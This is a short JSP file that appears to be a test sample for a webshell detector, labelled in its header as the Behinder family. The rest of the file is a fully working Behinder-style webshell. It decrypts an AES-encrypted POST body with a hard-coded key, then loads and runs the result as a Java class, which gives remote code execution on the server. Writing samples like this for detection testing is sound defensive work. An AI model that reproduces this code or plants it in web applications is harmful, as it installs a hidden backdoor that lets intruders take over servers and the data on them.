<%-- expect rule=jsp.classloader-input min=95 family=Behinder --%>
<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
    class Loader extends ClassLoader {
        Loader(ClassLoader parent) { super(parent); }
        public Class define(byte[] code) { return super.defineClass(code, 0, code.length); }
    }
%>
<%
    if ("POST".equals(request.getMethod())) {
        String key = "0a1b2c3d4e5f6a7b";
        session.putValue("k", key);
        Cipher aes = Cipher.getInstance("AES");
        aes.init(2, new SecretKeySpec(key.getBytes(), "AES"));
        String body = request.getReader().readLine();
        byte[] enc = new sun.misc.BASE64Decoder().decodeBuffer(body);
        new Loader(this.getClass().getClassLoader()).define(aes.doFinal(enc)).newInstance().equals(pageContext);
    }
%>
